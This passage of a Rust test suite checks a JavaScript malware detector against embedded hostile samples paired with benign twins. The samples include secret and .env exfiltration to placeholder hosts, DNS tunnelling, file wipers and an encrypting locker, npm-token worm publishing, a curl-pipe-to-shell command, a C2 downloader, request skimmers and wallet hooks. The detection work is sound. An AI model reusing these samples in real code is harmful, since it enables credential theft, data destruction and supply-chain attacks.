          console.log(fs.readFileSync(path.join(__dirname, f), 'utf8').length);
        }
    ";
    assert!(!kinds(own).contains(&K::SecretRead), "{:?}", facts(own));
}

#[test]
fn environment_harvested_key_by_key_is_a_secret() {
    let for_in = r"
        const https = require('https');
        const bag = {};
        for (const k in process.env) {
          if (/token|secret|key/i.test(k)) bag[k] = process.env[k];
        }
        https.request({ host: 'collect.example.invalid', method: 'POST' }).end(JSON.stringify(bag));
    ";
    assert!(
        kinds(for_in).contains(&K::SecretExfiltration),
        "{:?}",
        facts(for_in)
    );
    let keys = r"
        const https = require('https');
        const out = {};
        Object.keys(process.env).forEach(function (k) { out[k] = process.env[k]; });
        https.request({ host: 'collect.example.invalid', method: 'POST' }).end(JSON.stringify(out));
    ";
    assert!(
        kinds(keys).contains(&K::SecretExfiltration),
        "{:?}",
        facts(keys)
    );
    // Reading a few named settings and reporting only what is missing sends nothing secret.
    let check = r"
        const https = require('https');
        const missing = ['PORT', 'NODE_ENV'].filter((k) => !(k in process.env));
        https.get('https://example.invalid/ping?missing=' + missing.length);
    ";
    assert!(
        !kinds(check).contains(&K::SecretExfiltration),
        "{:?}",
        facts(check)
    );
}

#[test]
fn a_private_dns_resolver_is_a_network_call() {
    let src = r"
        const { Resolver } = require('dns');
        const r = new Resolver();
        r.setServers(['203.0.113.53']);
        const data = Buffer.from(process.env.AWS_SECRET_ACCESS_KEY || '').toString('hex');
        r.resolveTxt(data + '.t.example.invalid', () => {});
    ";
    let k = kinds(src);
    assert!(k.contains(&K::Network), "{:?}", facts(src));
    assert!(k.contains(&K::SecretExfiltration), "{:?}", facts(src));
}

#[test]
fn editor_task_run_on_folder_open_is_persistence() {
    let src = r"
        const fs = require('fs');
        const path = require('path');
        const { task } = require('./template');
        const dir = path.join(process.env.INIT_CWD || process.cwd(), '.vscode');
        fs.mkdirSync(dir, { recursive: true });
        fs.writeFileSync(path.join(dir, 'tasks.json'), JSON.stringify(task));
    ";
    assert!(kinds(src).contains(&K::Persistence), "{:?}", facts(src));
    // A scaffolder's constant build task does not run on its own.
    let scaffold = r#"
        const fs = require('fs');
        fs.writeFileSync('.vscode/tasks.json', '{"version":"2.0.0","tasks":[{"label":"build","type":"npm","script":"build"}]}');
    "#;
    assert!(
        !kinds(scaffold).contains(&K::Persistence),
        "{:?}",
        facts(scaffold)
    );
}

#[test]
fn items_of_a_list_made_from_secrets_are_secrets() {
    let src = r"
        const https = require('https');
        const env = process.env;
        const keys = Object.keys(env).filter((k) => /TOKEN|SECRET/.test(k));
        const out = {};
        keys.forEach(function (k) { out[k] = env[k]; });
        https.request({ host: 'cache.example.invalid', method: 'POST' }).end(JSON.stringify(out));
    ";
    assert!(
        kinds(src).contains(&K::SecretExfiltration),
        "{:?}",
        facts(src)
    );
}

#[test]
fn geofencing_by_time_zone_or_geolocated_country() {
    let zone = r"
        const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;
        const zones = new Set(['Europe/Moscow', 'Europe/Minsk', 'Asia/Omsk']);
        if (zones.has(tz)) { console.log('a message'); }
    ";
    assert!(kinds(zone).contains(&K::AntiAnalysis), "{:?}", facts(zone));
    let country = r"
        const https = require('https');
        https.get('https://geo.example.invalid/json', (res) => {
          let body = '';
          res.on('data', (c) => (body += c));
          res.on('end', () => {
            const where = JSON.parse(body).country_name.toLowerCase();
            if (where.includes('belarus') || where === 'russia') { require('fs').writeFileSync('/tmp/x', 'y'); }
          });
        });
    ";
    assert!(
        kinds(country).contains(&K::AntiAnalysis),
        "{:?}",
        facts(country)
    );
    // Formatting dates in the user's zone, and translations chosen by language.
    let benign = r"
        const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;
        const label = tz === 'UTC' ? 'UTC' : tz.replace('_', ' ');
        const lang = (navigator.language || 'en').slice(0, 2);
        const plural = lang === 'ru' ? 'many' : 'other';
        module.exports = { label, plural };
    ";
    assert!(
        !kinds(benign).contains(&K::AntiAnalysis),
        "{:?}",
        facts(benign)
    );
}

/// The (kind, top level) pairs of a source, for reachability checks.
fn placed(src: &str) -> Vec<(K, bool)> {
    facts(src).into_iter().map(|f| (f.0, f.1)).collect()
}

#[test]
fn callbacks_of_calls_made_at_top_level_run_at_top_level() {
    // A timer started on require, a request in it, the body sent on in the response's
    // callbacks: all of it runs when the module loads.
    let src = r#"
const https = require('https'), os = require('os'), cp = require('child_process');
setTimeout(() => {
  https.get('https://203.0.113.9/cfg', (res) => {
    let body = '';
    res.on('data', (d) => { body += d; });
    res.on('end', () => { cp.exec(body); });
  });
}, 2000);
new Promise((resolve) => resolve(os.hostname())).then((h) => {
  require('dns').lookup(h + '.x.invalid', () => {});
});
"#;
    let p = placed(src);
    assert!(p.contains(&(K::DownloadExecute, true)), "{p:?}");
    assert!(p.contains(&(K::Network, true)), "{p:?}");
    assert!(
        !p.iter().any(|x| !x.1),
        "nothing here waits to be called: {p:?}"
    );
}

#[test]
fn callbacks_registered_for_later_stay_where_they_are_reached() {
    // Route handlers, test bodies and CLI actions run when a request comes, a test runs
    // or a command is typed: not on require.
    let src = r#"
const cp = require('child_process');
const app = require('express')();
app.get('/run', (req, res) => { cp.exec('ls', (e, out) => res.send(out)); });
describe('spawn', () => { it('runs', () => { cp.execSync('git status'); }); });
program.command('build').action(() => { cp.spawnSync('make'); });
module.exports = function run() { setTimeout(() => cp.exec('date'), 10); };
"#;
    let p = placed(src);
    assert!(
        p.iter().filter(|x| x.0 == K::ProcessSpawn).all(|x| !x.1),
        "{p:?}"
    );
    assert!(p.iter().any(|x| x.0 == K::ProcessSpawn), "{p:?}");
}

#[test]
fn walking_the_users_folders_and_destroying_each_file_is_destruction() {
    // A queue instead of recursion, files overwritten with garbage then removed.
    let wiper = r#"
const fs = require('fs'), path = require('path'), os = require('os');
function scrub() {
  const todo = ['Desktop', 'Documents'].map((d) => path.join(os.homedir(), d));
  while (todo.length) {
    const dir = todo.pop();
    for (const name of fs.readdirSync(dir)) {
      const p = path.join(dir, name);
      if (fs.statSync(p).isDirectory()) todo.push(p);
      else { fs.writeFileSync(p, Buffer.alloc(64)); fs.unlinkSync(p); }
    }
  }
}
scrub();
"#;
    let p = placed(wiper);
    assert!(p.contains(&(K::Destruction, false)), "{p:?}");
    // Recursion from the home folder itself, files encrypted beside themselves.
    let locker = r#"
const fs = require('fs'), os = require('os'), crypto = require('crypto');
const walk = (d) => fs.readdirSync(d, { withFileTypes: true }).forEach((e) => {
  const p = d + '/' + e.name;
  if (e.isDirectory()) return walk(p);
  const c = crypto.createCipheriv('aes-256-ctr', crypto.randomBytes(32), crypto.randomBytes(16));
  fs.writeFileSync(p + '.enc', c.update(fs.readFileSync(p)));
  fs.rmSync(p);
});
walk(os.homedir());
"#;
    assert!(
        kinds(locker).contains(&K::Destruction),
        "{:?}",
        facts(locker)
    );
}

#[test]
fn the_home_folder_counts_when_code_asks_for_it_not_when_a_comment_names_it() {
    // The walk's root comes from a parameter; the home folder and the cipher are asked
    // for in code, through `process.env` and a cipher created.
    let locker = r#"
const fs = require('fs'), crypto = require('crypto');
function lock(dir, key) {
  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
    const p = dir + '/' + e.name;
    if (e.isDirectory()) { lock(p, key); continue; }
    const c = crypto.createCipheriv('aes-256-cbc', key, Buffer.alloc(16));
    fs.writeFileSync(p + '.locked', c.update(fs.readFileSync(p)));
    fs.unlinkSync(p);
  }
}
module.exports = (opts) => lock(opts.root || process.env.USERPROFILE, opts.key);
"#;
    assert!(
        kinds(locker).contains(&K::Destruction),
        "{:?}",
        facts(locker)
    );
    // The same walk from a folder it is given; the home folder and a cipher only named in
    // comments and in a message.
    let pruner = r#"
const fs = require('fs');
// Never call os.homedir() here, and never walk $HOME or %USERPROFILE%: we only prune the
// output folder we are given. (Artifacts are not encrypted; see createCipheriv docs.)
function prune(dir, keep) {
  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
    const p = dir + '/' + e.name;
    if (e.isDirectory()) { prune(p, keep); continue; }
    if (!keep(p)) fs.unlinkSync(p);
  }
}
module.exports = (out, keep) => { console.log('HOME is left alone'); prune(out, keep); };
"#;
    assert!(
        !kinds(pruner).contains(&K::Destruction),
        "{:?}",
        facts(pruner)
    );
}

#[test]
fn walking_a_cache_or_a_project_and_deleting_is_not_destruction() {
    // A cache cleaner under a dot-folder of home, and a build that rewrites its sources.
    let cleaner = r#"
const fs = require('fs'), path = require('path'), os = require('os');
const cache = path.join(os.homedir(), '.cache', 'imgtool');
for (const f of fs.readdirSync(cache)) {
  const p = path.join(cache, f);
  if (Date.now() - fs.statSync(p).mtimeMs > 864e5) fs.unlinkSync(p);
}
"#;
    assert!(
        !kinds(cleaner).contains(&K::Destruction),
        "{:?}",
        facts(cleaner)
    );
    let build = r#"
const fs = require('fs'), path = require('path');
function walk(dir) {
  for (const f of fs.readdirSync(dir)) {
    const p = path.join(dir, f);
    if (fs.statSync(p).isDirectory()) walk(p);
    else fs.writeFileSync(p.replace(/\.ts$/, '.js'), strip(fs.readFileSync(p, 'utf8')));
  }
}
walk(path.join(__dirname, 'src'));
// Saved in the user's Documents folder when asked to.
exports.exportTo = (name) => fs.writeFileSync(path.join(process.env.HOME, 'Documents', name), '');
"#;
    assert!(
        !kinds(build).contains(&K::Destruction),
        "{:?}",
        facts(build)
    );
}

#[test]
fn a_token_printed_by_a_command_and_sent_is_exfiltration() {
    // The registry token asked of npm itself, then used to publish a package document
    // (the way a worm republishes without shelling out to `npm publish`).
    let worm = r#"
const { execSync } = require('child_process');
const reg = 'https://registry.example.invalid';
const tok = execSync('npm config get //registry.example.invalid/:_authToken').toString().trim();
const doc = { _id: 'x', name: 'x', 'dist-tags': { latest: '1.0.1' }, _attachments: {} };
fetch(reg + '/x', { method: 'PUT', headers: { authorization: 'Bearer ' + tok }, body: JSON.stringify(doc) });
"#;
    let f = facts(worm);
    assert!(f.iter().any(|x| x.0 == K::SecretExfiltration), "{f:?}");
    // The twin asks npm for the registry's address and fetches a package document.
    let client = r#"
const { execSync } = require('child_process');
const reg = execSync('npm config get registry').toString().trim();
fetch(reg + '/left-pad', { headers: { accept: 'application/json' } }).then((r) => r.json());
"#;
    let f = facts(client);
    assert!(!f.iter().any(|x| x.0 == K::SecretExfiltration), "{f:?}");
}

#[test]
fn a_worker_started_from_decoded_code_that_connects_is_decode_execute() {
    // One statement in a bundle: workers started from a blob of base64-decoded code that
    // opens a socket (a miner talking to its pool).
    let b64 = "dmFyIHM9bmV3IFdlYlNvY2tldCgid3NzOi8vcG9vbC5leGFtcGxlLmludmFsaWQvIik7";
    let bundle = format!(
        "!function(){{try{{var u=URL.createObjectURL(new Blob([atob(\"{b64}\")]));for(var i=0;i<4;i++)new Worker(u)}}catch(e){{}}}}();\n"
    );
    let f = facts(&bundle);
    assert!(f.iter().any(|x| x.0 == K::DecodeExecute), "{f:?}");
    // Bundlers inline their own workers as base64 too: code that only computes, and
    // workers started from their own files or from constant code.
    let inlined = "dmFyIG49MDtvbm1lc3NhZ2U9ZnVuY3Rpb24oZSl7cG9zdE1lc3NhZ2UoZS5kYXRhKjIpfTs=";
    let benign = format!(
        r#"
const w0 = new Worker(URL.createObjectURL(new Blob([atob("{inlined}")], {{ type: 'text/javascript' }})));
const a = new Worker(new URL('./resize.worker.js', import.meta.url), {{ type: 'module' }});
const src = 'self.onmessage = (e) => postMessage(e.data * 2);';
const b = new Worker(URL.createObjectURL(new Blob([src], {{ type: 'text/javascript' }})));
"#
    );
    let f = facts(&benign);
    assert!(
        !f.iter().any(|x| matches!(
            x.0,
            K::DecodeExecute | K::DownloadExecute | K::DynamicExecute
        )),
        "{f:?}"
    );
}

#[test]
fn a_new_module_given_code_through_a_hidden_method_name_runs_it() {
    // The method name (`_compile`) and the code both come from a table of the package,
    // so neither folds; the fresh module gives it away.
    let src = r#"
var names = require('./lib/names.json'), blob = require('./lib/blob.json');
!function () {
  try {
    var m = new module.constructor();
    m.paths = module.paths;
    m[names[blob.length % 7]](blob.join(''), '');
  } catch (e) {}
}();
"#;
    let f = facts(src);
    assert!(
        f.iter()
            .any(|x| matches!(x.0, K::DynamicExecute | K::DecodeExecute)),
        "{f:?}"
    );
    // Plugin loaders call methods of their own objects by computed names, and a test
    // helper compiles a constant module under its real name.
    let benign = r#"
const hooks = { start() {}, stop() {} };
for (const k of Object.keys(hooks)) hooks[k](process.argv);
const Module = require('module');
const m = new Module('fixture');
m._compile('module.exports = 42', 'fixture.js');
"#;
    let f = facts(benign);
    assert!(
        !f.iter()
            .any(|x| matches!(x.0, K::DynamicExecute | K::DecodeExecute | K::Obfuscation)),
        "{f:?}"
    );
}

#[test]
fn what_a_decoder_hands_its_callback_is_decoded() {
    // A decompressor of another library, with a callback: what it hands over is run.
    let src = r#"
const xz = require('some-xz');
const packed = Buffer.from('AAECAwQFBgcICQ==', 'base64');
xz.decompress(Array.from(packed), function (text, err) {
  if (!err) new Function('require', text)(require);
});
"#;
    let f = facts(src);
    assert!(f.iter().any(|x| x.0 == K::DecodeExecute), "{f:?}");
    // Decompressing a file the user names, and parsing what comes out, is a codec.
    let benign = r#"
const xz = require('some-xz'), fs = require('fs');
module.exports = (file, cb) => xz.decompress(fs.readFileSync(file), (out, err) => {
  cb(err, err ? null : JSON.parse(out));
});
"#;
    let f = facts(benign);
    assert!(
        !f.iter()
            .any(|x| matches!(x.0, K::DecodeExecute | K::DynamicExecute)),
        "{f:?}"
    );
}

#[test]
fn raw_capabilities_a_shell_runner_for_any_command_and_the_dns_resolver() {
    let raw = |src: &str| -> Vec<String> {
        facts(src)
            .into_iter()
            .filter(|f| f.0 == K::RawCapability)
            .map(|f| f.2)
            .collect()
    };
    // The caller's string is the whole command line.
    let runner = "const cp = require(`child_process`);\nmodule.exports = function run(c) { return cp.execSync(c); };\n";
    assert!(
        raw(runner).iter().any(|d| d.contains("execSync")),
        "{:?}",
        facts(runner)
    );
    // A fixed command, or the caller's value as one argument of a fixed program, is not.
    for src in [
        "const { execSync } = require('child_process');\nfunction build() { execSync('npm run build'); }\nmodule.exports = { build };\n",
        "const cp = require('child_process');\nexports.open = function (f) { return cp.execFileSync('xdg-open', [f]); };\n",
        "const cp = require('child_process');\nexports.grep = function (p) { return cp.execSync('grep -r ' + JSON.stringify(p) + ' .'); };\n",
    ] {
        assert!(raw(src).is_empty(), "{src}: {:?}", facts(src));
    }
    for src in [
        "const dns = require('node:dns');\nmodule.exports = dns;\n",
        "import { lookup } from 'dns/promises';\nexport default lookup;\n",
    ] {
        assert!(
            raw(src)
                .iter()
                .any(|d| d.starts_with("loads the DNS resolver")),
            "{src}: {:?}",
            facts(src)
        );
    }
    assert!(raw("const https = require('node:https');\nmodule.exports = https;\n").is_empty());
}

#[test]
fn named_network_handler_runs_the_answer() {
    // The handler is written apart from the request and handed to it by name: what it
    // is called with is the server's answer (here the body of an error response).
    let src = r#"
const got = require('axios');
function onFailure(err) {
  const text = err && err.response && err.response.data;
  const run = Reflect.construct(Function, ['require', text]);
  run(require);
}
got.post('https://telemetry.example.invalid/v1', {}).catch(onFailure);
"#;
    let f = facts(src);
    assert!(
        f.iter()
            .any(|(k, _, d)| *k == K::DownloadExecute && d.contains("onFailure")),
        "{f:?}"
    );
    // The same handler given to something that is not a request: its parameter is the
    // caller's, not the network's.
    let local = r#"
const emitter = require('./bus');
function onFailure(err) { const run = new Function(err.code); run(); }
emitter.on('failure', onFailure);
"#;
    assert!(!has(local, K::DownloadExecute), "{:?}", facts(local));
}

#[test]
fn recursive_walker_handed_the_root_overwrites_files() {
    // The walk's start is an argument: the lister is a function, the root a constant.
    let src = r#"
const fs = require('fs');
const path = require('path');
function spoil(dir) {
  let names = [];
  try { names = fs.readdirSync(dir); } catch (e) { return; }
  for (const n of names) {
    const p = path.join(dir, n);
    if (fs.statSync(p).isDirectory()) spoil(p);
    else fs.writeFileSync(p, 'x');
  }
}
setTimeout(() => spoil(Buffer.from('Lw==', 'base64').toString()), 10);
"#;
    assert!(has(src, K::Destruction), "{:?}", facts(src));
    // The same walker over the package's own folder is a build step.
    let own = src.replace(
        "Buffer.from('Lw==', 'base64').toString()",
        "path.join(__dirname, 'dist')",
    );
    assert!(!has(&own, K::Destruction), "{:?}", facts(&own));
}

#[test]
fn deleting_the_projects_history_and_sources() {
    let src = r#"
const fs = require('fs');
const path = require('path');
const names = [[46, 103, 105, 116], [115, 114, 99]];
(function () {
  const base = process.cwd();
  for (const n of names) fs.rmSync(path.join(base, String.fromCharCode(...n)), { recursive: true, force: true });
})();
"#;
    assert!(has(src, K::Destruction), "{:?}", facts(src));
    let plain = "const fs = require('fs');\nfs.rmSync(require('path').join(process.cwd(), '.git'), { recursive: true });";
    assert!(has(plain, K::Destruction), "{:?}", facts(plain));
    // Cleaning the build output of the project is what build tools do.
    let clean = "const fs = require('fs');\nfs.rmSync(require('path').join(process.cwd(), 'dist'), { recursive: true });";
    assert!(!has(clean, K::Destruction), "{:?}", facts(clean));
}

#[test]
fn endless_loop_when_loaded() {
    let src = r#"
module.exports = function banner() {
  console.log('!!!');
  for (let n = 1; n < Infinity; n++) console.log('x'.repeat(n % 80));
};
module.exports();
"#;
    assert!(has(src, K::Destruction), "{:?}", facts(src));
    assert!(has("while (true) { console.log('spin'); }", K::Destruction));
    // Loops that always leave one way or another.
    for quiet in [
        "for (;;) { const c = next(); if (!c) break; use(c); }",
        "function f() { while (true) { if (ready()) return 1; } }",
        "async function f() { while (true) { await tick(); } }",
        "function* ids() { let i = 0; while (true) yield i++; }",
        "while (1) { try { step(); } catch (e) { throw e; } }",
        "for (let i = 0; i < 10; i++) { work(i); }",
        "while (true) { if (done()) process.exit(0); poll(); }",
        // Compiled OCaml: the loop ends when what it calls raises.
        "try { for (;;) step(next()); } catch (e) { if (e !== End) throw e; }",
        "outer: for (;;) { for (;;) { if (peek()) continue outer; eat(); } }",
    ] {
        assert!(!has(quiet, K::Destruction), "{quiet}: {:?}", facts(quiet));
    }
}

#[test]
fn dotenv_files_found_by_pattern_are_sent() {
    // The files are picked from a folder listing by a pattern, read, and posted to an
    // address given as request options.
    let src = r#"
const fs = require('fs');
const path = require('path');
const http = require('http');
(function () {
  const bag = {};
  const here = process.cwd();
  for (const f of fs.readdirSync(here).filter((n) => /^\.env(\.\w+)?$/.test(n))) {
    bag[f] = fs.readFileSync(path.join(here, f), 'utf8');
  }
  const req = http.request({ hostname: '203.0.113.7', port: 8443, path: '/c', method: 'POST' });
  req.end(JSON.stringify(bag));
})();
"#;
    let k = kinds(src);
    assert!(k.contains(&K::SecretExfiltration), "{:?}", facts(src));
    assert!(k.contains(&K::SuspiciousDestination), "{:?}", facts(src));
    // Loading the project's .env into the process is what config loaders do.
    let loader = r#"
const fs = require('fs');
const text = fs.readFileSync(require('path').join(process.cwd(), '.env'), 'utf8');
for (const line of text.split('\n')) { const [k, v] = line.split('='); process.env[k] = v; }
"#;
    assert!(kinds(loader).is_empty(), "{:?}", facts(loader));
}

#[test]
fn decoded_code_planted_in_another_programs_file() {
    use std::io::Write;
    let payload = "const https = require('https');\nhttps.request('https://collect.example.invalid/t', { method: 'POST' }).end(String(Date.now()));\n";
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    z.write_all(payload.as_bytes())
        .expect("writing to a Vec does not fail");
    let blob = base64::Engine::encode(
        &base64::engine::general_purpose::STANDARD,
        z.finish().expect("writing to a Vec does not fail"),
    );
    let src = format!(
        "const fs = require('fs');\nconst zlib = require('zlib');\nconst body = zlib.inflateSync(Buffer.from('{blob}', 'base64')).toString();\nfor (const target of findApps()) fs.writeFileSync(target, body + '\\nmodule.exports = 1;');\n"
    );
    let f = facts(&src);
    assert!(
        f.iter()
            .any(|(k, _, d)| *k == K::Persistence && d.contains("decoded code")),
        "{f:?}"
    );
    // Unpacking a compressed asset of its own next to itself is what packages do.
    let own = src.replace(
        "for (const target of findApps()) fs.writeFileSync(target,",
        "fs.writeFileSync(require('path').join(__dirname, 'core.js'),",
    );
    assert!(!has(&own, K::Persistence), "{:?}", facts(&own));
}

#[test]
fn buffer_mapped_through_a_xor_key() {
    // The module name is XOR-ed with a key byte by byte over a Buffer.
    let src = r#"
const key = 'Zq3';
const un = (s) => Buffer.from(Buffer.from(s, 'base64').map((b, i) => b ^ key.charCodeAt(i % key.length))).toString();
const proc = require(un('ORlaNhVsKgNcORRAKQ=='));
proc.exec('id');
"#;
    let f = facts(src);
    assert!(f.iter().any(|(k, _, _)| *k == K::ProcessSpawn), "{f:?}");
    assert!(!f.iter().any(|(k, _, _)| *k == K::DynamicImport), "{f:?}");
}

#[test]
fn wallet_provider_handed_to_a_wrapper_function() {
    // The provider is the parameter of a function called where it is written.
    let src = "window.ethereum && function (prov) { var orig = prov.request.bind(prov); prov.request = function (a) { return orig(a); }; }(window.ethereum);";
    assert!(has(src, K::BrowserHijack), "{:?}", facts(src));
    let arrow = "window.solana && ((s) => { const f = s.signTransaction.bind(s); s.signTransaction = async (t) => f(t); })(window.solana);";
    assert!(has(arrow, K::BrowserHijack), "{:?}", facts(arrow));
    // A wrapper handed something else assigns its own object's methods.
    let own = "(function (api) { api.request = function (a) { return a; }; })(window.myClient);";
    assert!(!has(own, K::BrowserHijack), "{:?}", facts(own));
}

#[test]
fn hooked_request_bodies_copied_out() {
    let src = r#"
!function () {
  var send = XMLHttpRequest.prototype.send;
  XMLHttpRequest.prototype.send = function (payload) {
    try { if (payload) (new Image).src = "https://stats.example.invalid/i?q=" + encodeURIComponent(String(payload)); } catch (e) {}
    return send.apply(this, arguments);
  };
}();
"#;
    let f = facts(src);
    assert!(
        f.iter()
            .any(|(k, _, d)| *k == K::BrowserHijack && d.contains("copies what the page sends")),
        "{f:?}"
    );
    // A wrapper that counts requests and reports its own numbers with a beacon.
    let counter = r#"
var n = 0, orig = window.fetch;
window.fetch = function (input, init) { n++; return orig(input, init); };
addEventListener('pagehide', function () { navigator.sendBeacon('/metrics', String(n)); });
"#;
    assert!(!has(counter, K::BrowserHijack), "{:?}", facts(counter));
}

#[test]
fn a_process_started_through_nodes_internal_spawn_binding() {
    let src = "const b = process['bin' + 'ding']('spawn_sync');\nb.spawn({ file: '/bin/sh', args: ['sh', '-c', 'curl -s http://payload.invalid/x | sh'], stdio: [] });\n";
    let k = kinds(src);
    assert!(k.contains(&K::DownloadExecute), "{:?}", facts(src));
    // Other bindings are not processes.
    let other = "const fsb = process.binding('fs');\nmodule.exports = fsb;\n";
    assert!(
        !kinds(other).contains(&K::ProcessSpawn),
        "{:?}",
        facts(other)
    );
}

#[test]
fn deleting_the_project_the_program_runs_in() {
    let src = "const { exec } = require('child_process');\nfunction wipe() {\n  const dir = process.cwd();\n  exec(process.platform === 'win32' ? `rd /s /q \"${dir}\"` : `rm -rf \"${dir}\"`);\n}\nmodule.exports = wipe;\n";
    assert!(has(src, K::Destruction), "{:?}", facts(src));
    // A build folder under it is not the project.
    let clean = "const { exec } = require('child_process');\nfunction clean() {\n  exec(`rm -rf \"${process.cwd()}/dist\"`);\n}\nmodule.exports = clean;\n";
    assert!(!has(clean, K::Destruction), "{:?}", facts(clean));
}

#[test]
fn shipped_library_loaded_by_rundll32() {
    let src = r#"
const cp = require('child_process');
const path = require('path');
const dll = path.join(__dirname, 'vendor', 'native-helper.dll');
cp.spawn('rundll32.exe', [dll + ',Entry'], { detached: true, stdio: 'ignore' }).unref();
"#;
    assert!(kinds(src).contains(&K::DownloadExecute), "{:?}", facts(src));
    let system = "require('child_process').execSync('rundll32 user32.dll,LockWorkStation');";
    assert!(
        !kinds(system).contains(&K::DownloadExecute),
        "{:?}",
        facts(system)
    );
}

#[test]
fn a_prompts_answer_runs_with_the_program() {
    // A command that asks for a password and sends it with the user's name: the answer's
    // callback runs as surely as the program does.
    let src = r#"
const readline = require('readline');
const https = require('https');
const os = require('os');
const ask = readline.createInterface({ input: process.stdin, output: process.stdout });
ask.question('Password: ', (answer) => {
  const r = https.request('https://collect.invalid/p', { method: 'POST' });
  r.end(JSON.stringify({ who: os.userInfo().username, host: os.hostname(), answer }));
});
"#;
    assert!(
        facts(src)
            .iter()
            .any(|(k, top, _)| *k == K::SecretExfiltration && *top),
        "{:?}",
        facts(src)
    );
}

#[test]
fn request_interceptors_and_loader_hooks_that_copy_credentials() {
    // The module loader replaced; the client it hands out gets an interceptor that posts
    // every Authorization header to another host.
    let hooked = r#"
const Module = require('module');
const http = require('http');
function report(what) {
  const req = http.request({ host: 'gather.invalid', method: 'PUT', path: '/h' });
  req.end(JSON.stringify(what));
}
const load = Module.prototype.require;
Module.prototype.require = function (name) {
  const lib = load.apply(this, arguments);
  if (name === 'got-like' && lib.interceptors) {
    lib.interceptors.request.use(function (cfg) {
      report({ to: cfg.url, token: cfg.headers.Authorization });
      return cfg;
    });
  }
  return lib;
};
"#;
    // The header handed to the file's sender, where the module's code runs; the
    // package joins the two (a secret exfiltration at import time).
    let f = javascript::analyze(hooked, "index.js");
    assert!(!f.param_sends.is_empty(), "{:?}", f.param_sends);
    assert!(
        f.secret_calls
            .iter()
            .any(|c| c.callee == "report" && c.top_level),
        "{:?}",
        f.secret_calls
    );
    // An interceptor that adds the application's own token: nothing is sent elsewhere.
    let adds = r#"
const axios = require('axios');
const api = axios.create({ baseURL: 'https://api.invalid' });
api.interceptors.request.use((config) => {
  config.headers.Authorization = 'Bearer ' + process.env.API_TOKEN;
  console.debug('request', config.method, config.url, config.headers);
  return config;
});
module.exports = api;
"#;
    assert!(
        !kinds(adds).contains(&K::SecretExfiltration),
        "{:?}",
        facts(adds)
    );
}

#[test]
fn hooked_fetch_handing_bodies_to_a_beaconing_helper() {
    // The wrapper hands what the page sends to a helper of the file that beacons it.
    let src = r#"
var collector = 'https://stats.invalid/e';
function post(where, payload) {
  navigator.sendBeacon(collector, JSON.stringify({ where: where, payload: String(payload) }));
}
var realFetch = window.fetch;
window.fetch = function (resource, options) {
  if (options && options.body) post(String(resource), options.body);
  return realFetch.apply(this, arguments);
};
"#;
    let f = facts(src);
    assert!(
        f.iter()
            .any(|(k, _, d)| *k == K::BrowserHijack && d.contains("request skimming")),
        "{f:?}"
    );
    // Monitoring: the wrapper times requests and beacons durations it measured itself.
    let timing = r#"
function post(ms) { navigator.sendBeacon('/rum', JSON.stringify({ ms: ms })); }
var realFetch = window.fetch;
window.fetch = function (resource, options) {
  var t0 = performance.now();
  return realFetch.apply(this, arguments).then(function (r) { post(performance.now() - t0); return r; });
};
"#;
    assert!(
        !kinds(timing).contains(&K::BrowserHijack),
        "{:?}",
        facts(timing)
    );
}

#[test]
fn functions_declared_inside_an_iife_are_followed() {
    // A bundle-style wrapper: the beaconing helper is a function of the IIFE's body,
    // which runs as the file's top level; the hooked `fetch` hands it request bodies.
    let src = r#"
;(function (win) {
  'use strict';
  var endpoint = 'https://telemetry.example.invalid/in';
  function relay(where, data) {
    navigator.sendBeacon(endpoint, JSON.stringify({ w: where, d: String(data) }));
  }
  var nativeFetch = window.fetch;
  window.fetch = function (res, opts) {
    if (opts && opts.body) relay(String(res), opts.body);
    return nativeFetch.apply(this, arguments);
  };
})(window);
"#;
    let f = facts(src);
    assert!(
        f.iter()
            .any(|(k, _, d)| *k == K::BrowserHijack && d.contains("through relay()")),
        "{f:?}"
    );
    // The same wrapper beaconing only what it measured itself stays quiet.
    let timing = r#"
(function () {
  function report(ms) { navigator.sendBeacon('/rum', JSON.stringify({ ms: ms })); }
  var nativeFetch = window.fetch;
  window.fetch = function (res, opts) {
    var t0 = Date.now();
    return nativeFetch.apply(this, arguments).then(function (r) { report(Date.now() - t0); return r; });
  };
})();
"#;
    assert!(
        !kinds(timing).contains(&K::BrowserHijack),
        "{:?}",
        facts(timing)
    );
}

#[test]
fn constant_code_written_to_a_file_then_forked_is_read_as_code() {
    // Lines of an agent joined into a temporary file, which fork() then runs: what the
    // text does is what the package runs.
    let src = r#"
const fs = require('fs'), os = require('os'), path = require('path');
const { fork } = require('child_process');
const lines = [
  "const https = require('https'), cp = require('child_process');",
  "https.get('https://c2.example.invalid/task', r => { let b = ''; r.on('data', c => b += c); r.on('end', () => cp.execSync(b)); });",
];
const target = path.join(os.tmpdir(), 'helper-' + Date.now() + '.js');
fs.writeFileSync(target, lines.join('\n'));
fork(target, [], { stdio: 'ignore' });
"#;
    let f = facts(src);
    assert!(
        f.iter()
            .any(|(k, _, d)| *k == K::DownloadExecute && d.contains("in the code written to")),
        "{f:?}"
    );
    // A written file that is not what runs, and a constant file that is only run, stay as
    // they were: no code read from the data.
    let quiet = r#"
const fs = require('fs'), cp = require('child_process');
fs.writeFileSync('/tmp/report.json', JSON.stringify({ url: 'https://example.invalid' }) + '                ');
fs.writeFileSync('/tmp/notes.txt', "require('https').get('https://example.invalid/x')");
cp.fork('/tmp/worker.js');
"#;
    let q = facts(quiet);
    assert!(
        !q.iter()
            .any(|(_, _, d)| d.contains("in the code written to")),
        "{q:?}"
    );
}

#[test]
fn loader_hook_adding_constant_code_to_module_source() {
    // A `load` hook that appends a fixed snippet to the modules it loads: the snippet runs
    // in each of them, so it is read as code.
    let src = r#"
const EXTRA = "\n;fetch('https://metrics.example.invalid/c', { method: 'POST', body: JSON.stringify(process.env) });\n";
export async function load(url, context, nextLoad) {
  const out = await nextLoad(url, context);
  if (!url.includes('node_modules')) {
    return { ...out, source: String(out.source) + EXTRA, shortCircuit: true };
  }
  return out;
}
"#;
    let f = facts(src);
    assert!(
        f.iter().any(|(k, top, d)| *k == K::SecretExfiltration
            && *top
            && d.contains("module loader hook")),
        "{f:?}"
    );
    // A hook that transforms the source (a type stripper) adds no code of its own.
    let quiet = r#"
export async function load(url, context, nextLoad) {
  const out = await nextLoad(url, context);
  return { format: 'module', source: strip(String(out.source)) + '\n//# sourceURL=' + url, shortCircuit: true };
}
"#;
